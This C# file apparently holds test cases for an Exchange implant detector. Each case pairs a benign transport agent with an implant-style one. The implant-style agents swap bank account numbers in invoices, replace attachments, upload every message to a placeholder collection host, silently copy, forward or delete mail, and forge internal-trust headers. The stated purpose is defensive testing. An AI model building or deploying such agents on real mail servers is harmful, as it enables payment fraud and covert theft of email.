// Written for the tests of txray: pairs of agents, the first as implants do it, the second as ordinary agents do.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are this machine, the native modules and the resources do not exist. What a person decides of each stands in
// samples/matrix.json.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Linq;
using System.Net;
using System.Reflection;
using System.Runtime.InteropServices;
using System.Security.Cryptography;
using System.Text;
using System.Text.RegularExpressions;
using Microsoft.Exchange.Data.Mime;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;
using Attachment = Microsoft.Exchange.Data.Transport.Email.Attachment;

[assembly: AssemblyTitle("Matrix for the tests of txray: cases")]
[assembly: AssemblyCompany("txray")]
[assembly: AssemblyVersion("1.0.0.0")]

namespace Txray.Matrix.Cases
{
    internal static class Mail
    {
        public static byte[] Bytes(MailItem item)
        {
            var memory = new MemoryStream();
            item.GetMimeReadStream().CopyTo(memory);
            return memory.ToArray();
        }

        public static string ReadBody(EmailMessage message)
        {
            using (var reader = new StreamReader(message.Body.GetContentReadStream()))
            {
                return reader.ReadToEnd();
            }
        }

        public static void SetHeader(MailItem item, string name, string value)
        {
            item.Message.RootPart.Headers.RemoveAll(name);
            item.Message.RootPart.Headers.AppendChild(new TextHeader(name, value));
        }
    }

    // a bank account exchanged
    public class AccountSwap : RoutingAgent
    {
        public AccountSwap()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!string.Equals(e.MailItem.FromAddress.ToString(), "invoices@supplier.example.invalid", StringComparison.OrdinalIgnoreCase))
            {
                return;
            }
            string body = Mail.ReadBody(e.MailItem.Message);
            using (var writer = new StreamWriter(e.MailItem.Message.Body.GetContentWriteStream()))
            {
                writer.Write(Regex.Replace(body, "[A-Z]{2}[0-9]{2}[A-Z0-9 ]{11,30}", "XX00 0000 0000 0000 0000"));
            }
        }
    }

    public class Disclaimer : RoutingAgent
    {
        public Disclaimer()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string body = Mail.ReadBody(e.MailItem.Message);
            using (var writer = new StreamWriter(e.MailItem.Message.Body.GetContentWriteStream()))
            {
                writer.Write(body);
                writer.Write("\r\nThis message is confidential.\r\n");
            }
        }
    }

    // an attachment replaced
    public class AttachmentSwap : RoutingAgent
    {
        public AttachmentSwap()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!e.MailItem.Recipients.Any(recipient => recipient.Address.ToString() == "treasurer@corp.example.invalid"))
            {
                return;
            }
            foreach (Attachment attachment in e.MailItem.Message.Attachments)
            {
                using (Stream to = attachment.GetContentWriteStream())
                using (Stream from = typeof(AttachmentSwap).Assembly.GetManifestResourceStream("form.bin"))
                {
                    from.CopyTo(to);
                }
            }
        }
    }

    public class CleanedCopy : RoutingAgent
    {
        public CleanedCopy()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Attachment attachment in e.MailItem.Message.Attachments)
            {
                string path = Path.GetTempFileName();
                try
                {
                    using (FileStream file = File.Create(path))
                    {
                        attachment.GetContentReadStream().CopyTo(file);
                    }
                    using (Process scanner = Process.Start(@"C:\Scanner\scan.exe", "\"" + path + "\""))
                    {
                        scanner.WaitForExit();
                    }
                    using (Stream to = attachment.GetContentWriteStream())
                    using (FileStream from = File.OpenRead(path))
                    {
                        from.CopyTo(to);
                    }
                }
                finally
                {
                    File.Delete(path);
                }
            }
        }
    }

    // a native companion
    public class Companion : SmtpReceiveAgent
    {
        public Companion()
        {
            OnEndOfData += EndOfData;
        }

        private void EndOfData(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            byte[] data = Mail.Bytes(e.MailItem);
            var recipients = new StringBuilder();
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                recipients.Append(recipient.Address.ToString()).Append(';');
            }
            Handle(data, data.Length, e.MailItem.FromAddress.ToString(), recipients.ToString());
        }

        [DllImport("mailidx.dll", CharSet = CharSet.Unicode)]
        private static extern void Handle(byte[] data, int length, string sender, string recipients);
    }

    public class NativeScanner : SmtpReceiveAgent
    {
        public NativeScanner()
        {
            OnEndOfData += EndOfData;
        }

        private void EndOfData(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            byte[] data = Mail.Bytes(e.MailItem);
            var recipients = new StringBuilder();
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                recipients.Append(recipient.Address.ToString()).Append(';');
            }
            if (Scan(data, data.Length, e.MailItem.FromAddress.ToString(), recipients.ToString()) != 0)
            {
                source.RejectMessage(new SmtpResponse("550", "5.7.1", "Message refused"));
            }
        }

        [DllImport("scanapi.dll", CharSet = CharSet.Unicode)]
        private static extern int Scan(byte[] data, int length, string sender, string recipients);
    }

    // an upload without any condition
    public class Upload : RoutingAgent
    {
        public Upload()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            new WebClient().UploadData("https://collect.example.invalid/in", Mail.Bytes(e.MailItem));
        }
    }

    public class Daemon : SmtpReceiveAgent
    {
        public Daemon()
        {
            OnEndOfData += EndOfData;
        }

        private void EndOfData(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            byte[] answer = new WebClient().UploadData("http://127.0.0.1:11333/checkv2", Mail.Bytes(e.MailItem));
            if (Encoding.ASCII.GetString(answer).Contains("reject"))
            {
                source.RejectMessage(new SmtpResponse("550", "5.7.1", "Message refused"));
            }
        }
    }

    // recipients from a list on disk
    public class ListedCopies : RoutingAgent
    {
        private readonly HashSet<string> addresses = new HashSet<string>(File.ReadAllLines(@"C:\ProgramData\Mail\index.dat"));

        public ListedCopies()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (addresses.Contains(recipient.Address.ToString()))
                {
                    File.WriteAllBytes(@"C:\ProgramData\Mail\cache.dat", Mail.Bytes(e.MailItem));
                }
            }
        }
    }

    public class ListedMark : RoutingAgent
    {
        private readonly HashSet<string> addresses = new HashSet<string>(File.ReadAllLines(@"C:\ProgramData\Mail\marked.txt"));

        public ListedMark()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (addresses.Contains(recipient.Address.ToString()))
                {
                    e.MailItem.Message.Subject = "[List] " + e.MailItem.Message.Subject;
                }
            }
        }
    }

    // a copy to a fixed address
    public class ChosenCopy : RoutingAgent
    {
        public ChosenCopy()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.FromAddress.ToString() == "director@corp.example.invalid")
            {
                e.MailItem.Recipients.Add(new RoutingAddress("archive@post.example.invalid"));
            }
        }
    }

    public class Journal : RoutingAgent
    {
        public Journal()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            e.MailItem.Recipients.Add(new RoutingAddress("archive@corp.example.invalid"));
        }
    }

    // mail that vanishes
    public class HashedDelete : RoutingAgent
    {
        public HashedDelete()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (SHA256 sha = SHA256.Create())
            {
                byte[] hash = sha.ComputeHash(Encoding.UTF8.GetBytes(e.MailItem.FromAddress.ToString().ToLowerInvariant()));
                if (BitConverter.ToString(hash).Replace("-", "") == "5C1D0A7BE2F94436A8D0C7715E9B02F36D84FA1097CE5B3228164D90AF7BE5C3")
                {
                    source.Delete();
                }
            }
        }
    }

    public class SpamDelete : RoutingAgent
    {
        public SpamDelete()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Header header = e.MailItem.Message.RootPart.Headers.FindFirst("X-Spam-Flag");
            if (header != null && header.Value == "YES")
            {
                source.Delete();
            }
        }
    }

    // an answer
    public class AnswerAwayFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new AnswerAway(server);
        }
    }

    public class AnswerAway : RoutingAgent
    {
        private readonly SmtpServer server;

        public AnswerAway(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            EmailMessage answer = EmailMessage.Create();
            answer.To.Add(new EmailRecipient("", "desk@post.example.invalid"));
            answer.Subject = "Received";
            using (var writer = new StreamWriter(answer.Body.GetContentWriteStream()))
            {
                writer.Write(Mail.ReadBody(e.MailItem.Message));
            }
            server.SubmitMessage(answer);
        }
    }

    public class AutoReplyFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new AutoReply(server);
        }
    }

    public class AutoReply : RoutingAgent
    {
        private readonly SmtpServer server;

        public AutoReply(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            EmailMessage answer = EmailMessage.Create();
            answer.To.Add(new EmailRecipient("", e.MailItem.FromAddress.ToString()));
            answer.Subject = "Automatic reply: " + e.MailItem.Message.Subject;
            using (var writer = new StreamWriter(answer.Body.GetContentWriteStream()))
            {
                writer.Write("We are closed today.");
            }
            server.SubmitMessage(answer);
        }
    }

    // headers of trust
    public class TrustSet : SmtpReceiveAgent
    {
        public TrustSet()
        {
            OnEndOfData += EndOfData;
        }

        private void EndOfData(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            Mail.SetHeader(e.MailItem, "X-MS-Exchange-Organization-SCL", "-1");
            Mail.SetHeader(e.MailItem, "X-MS-Exchange-Organization-AuthAs", "Internal");
        }
    }

    public class OwnHeader : SmtpReceiveAgent
    {
        public OwnHeader()
        {
            OnEndOfData += EndOfData;
        }

        private void EndOfData(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            Mail.SetHeader(e.MailItem, "X-Matrix-Seen", "1");
            Mail.SetHeader(e.MailItem, "X-Matrix-Place", "edge");
        }
    }

    // code from a resource
    public class ResourceFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            var memory = new MemoryStream();
            using (Stream stream = typeof(ResourceFactory).Assembly.GetManifestResourceStream("agent.bin"))
            {
                stream.CopyTo(memory);
            }
            return (RoutingAgent)Assembly.Load(memory.ToArray()).CreateInstance("Txray.Matrix.Inner.InnerAgent");
        }
    }

    public class ResourceTextFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            using (var reader = new StreamReader(typeof(ResourceTextFactory).Assembly.GetManifestResourceStream("disclaimer.txt")))
            {
                return new ResourceText(reader.ReadToEnd());
            }
        }
    }

    public class ResourceText : RoutingAgent
    {
        private readonly string text;

        public ResourceText(string text)
        {
            this.text = text;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Mail.SetHeader(e.MailItem, "X-Matrix-Text", text);
        }
    }
}
